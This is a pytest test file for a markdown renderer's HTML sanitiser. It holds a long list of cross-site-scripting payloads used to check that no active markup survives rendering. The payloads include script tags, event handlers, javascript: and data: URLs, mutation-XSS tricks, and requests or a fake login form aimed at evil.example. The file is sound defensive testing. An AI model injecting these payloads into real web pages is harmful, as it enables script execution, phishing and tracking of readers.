"""Nothing that an author types makes a reader's browser run, fetch or show what it should not."""

import re

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lib.markdown import render
from lib.tests.html import elements, problems

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" alt="`onerror=alert(1)`">',
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=checkbox onclick=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<video poster=//evil.example/a.png src=/a.mp4></video>",
    "<video><source src=//evil.example/a.mp4></video>",
    "<img srcset='//evil.example/a.png 2x' src=/a.png>",
    "<picture><source srcset=//evil.example/a.png><img src=/a.png></picture>",
    "<img src='//evil.example/a.png'>",
    "<img src='\\\\evil.example\\a.png'>",
    "<img src='/\\evil.example/a.png'>",
    "<img src='/\t/evil.example/a.png'>",
    "<img src=' //evil.example/a.png'>",
    "<img src='HTTPS:/evil.example/a.png'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a> <a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    '![x" onerror="alert(1)](/a.png)',
    '![x](/a.png" onerror="alert(1))',
    '![x](/a.png "t\\" onerror=\\"alert(1)")',
    '[x](/a "t\\" onmouseover=\\"alert(1)")',
    '# x {#a"onclick="alert(1)}',
    '```"onclick=alert(1)\nx\n```',
    '```x"><script>alert(1)</script>\ny\n```',
    "::: note <script>alert(1)</script>\nx\n:::",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$</math><script>alert(1)</script>$",
    '<div title="\n\n$x$ "onclick=alert(1) x="\n\n">',
    '<div title="\n\n$\\text{" onclick=alert(1) x="}$\n\n">',
    "[^a]\n\n[^a]: <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "<table background=//evil.example><td background=//evil.example>x",
    "<template><script>alert(1)</script></template>",
    "<select><option><script>alert(1)</script></select>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?php ><script>alert(1)</script> ?>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<!x <script>alert(1)</script>>",
    "</p><script>alert(1)</script><p>",
    "<a href=/x target=_blank ping=//evil.example rel=opener>x</a>",
    "<div is=x-evil slot=y contenteditable autofocus tabindex=1 accesskey=x>x</div>",
    "<img src=/a.png usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<custom-element onclick=alert(1)>x</custom-element>",
]


@pytest.mark.parametrize("source", ATTACKS)
def test_attack_leaves_nothing_active(source):
    for place in (
        source,
        f"before {source} after",
        f"- {source}",
        f"> {source}",
        f"<div>\n{source}",
    ):
        assert problems(render(place).html) == []


@pytest.mark.parametrize("source", ATTACKS)
def test_output_is_what_a_browser_makes_of_it(source):
    """A second parse changes nothing: no mutation can turn text into markup later."""
    html = render(source).html
    once = _serialise(html)
    assert _serialise(once) == once


def _serialise(html: str) -> str:
    return html5lib.serialize(html5lib.parseFragment(html), omit_optional_tags=False)


_FRAGMENTS = st.lists(
    st.one_of(
        st.sampled_from(ATTACKS),
        st.sampled_from(
            [
                "<b>",
                "</b>",
                "<table>",
                "<td>",
                "</table>",
                "<a href='/x'>",
                "</a>",
                "<p>",
                "</p>",
                "\n\n",
                "\n",
                "    ",
                "> ",
                "- ",
                "1. ",
                "# ",
                "```\n",
                "$",
                "$$",
                "|",
                "|-|\n",
                "[^1]",
                "![",
                "](",
                ")",
                "**",
                "_",
                "`",
                "~~",
                "<!--more-->",
                "<!--",
                "-->",
                "::: note\n",
                ":::\n",
                "!!! tip\n",
                "\n: ",
                "{#id}",
                "<details>",
                "<math>",
                "<svg>",
                "</svg>",
                "&lt;",
                "\\",
                "\x00",
            ]
        ),
        st.text(max_size=8),
    ),
    max_size=12,
).map("".join)


@settings(max_examples=250, deadline=None)
@given(_FRAGMENTS)
def test_any_text_renders_to_allowed_elements_only(source):
    assert problems(render(source).html) == []


@settings(max_examples=150, deadline=None)
@given(_FRAGMENTS)
def test_rendering_twice_gives_the_same(source):
    assert render(source) == render(source)


def test_math_typed_as_html_does_not_survive_beside_a_formula():
    html = render("$x$ <math><mi>y</mi></math>").html
    assert html.count("<math") == 1
    assert "y" in html


def test_ids_of_the_page_and_of_footnotes_are_not_taken():
    html = render(
        '<p id="main">a</p><p id="fn1">b</p><p id="id_title">c</p>\n\n# Search\n\n[^1]\n\n[^1]: x'
    ).html
    ids = [attributes["id"] for _, attributes in elements(html) if "id" in attributes]
    assert ids == [
        "section-main",
        "section-fn1",
        "section-id_title",
        "section-search",
        "fnref1",
        "fn1",
    ]


def test_classes_come_from_a_fixed_list():
    html = render(
        '<div class="admonition admonition-tip site-header"><span class="k btn">x</span></div>'
    ).html
    assert "site-header" not in html
    assert "btn" not in html
    assert 'class="admonition admonition-tip"' in html


def test_the_secret_mark_never_reaches_the_output():
    html = render(
        '$x$ [^1] <!--more-->\n\n- [x] a\n\n<div title="\n\n$x$ [^1]\n\n">\n\n[^1]: x'
    ).html
    assert not re.search(r"m[0-9a-f]{16}x", html)


def test_characters_that_xml_forbids_are_gone():
    result = render("a\x0bb &#11; <p title='&#x1;'>c&#x1;d\ufffe</p> \ud800 \x00")
    assert not re.search(
        "[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", result.html + result.text
    )


def test_plain_html_that_authors_use_survives():
    source = (
        "<details open><summary>s</summary>x</details> <kbd>k</kbd><sub>1</sub><sup>2</sup>"
        '<abbr title="t">a</abbr><mark>m</mark><ruby>字<rt>zì</rt></ruby><del>d</del><ins>i</ins>'
    )
    html = render(source).html
    for name in (
        "details",
        "summary",
        "kbd",
        "sub",
        "sup",
        "abbr",
        "mark",
        "ruby",
        "rt",
        "del",
        "ins",
    ):
        assert f"<{name}" in html


def test_unknown_elements_are_shown_as_typed():
    assert "Vec&lt;T&gt;" in render("Vec<T>").html


def test_the_checker_of_this_module_finds_what_it_should():
    bad = (
        "<script></script><img src=//x onerror=1><p style=a></p>"
        "<a href='java\nscript:x'>x</a><svg></svg>"
    )
    assert len(problems(bad)) == 6
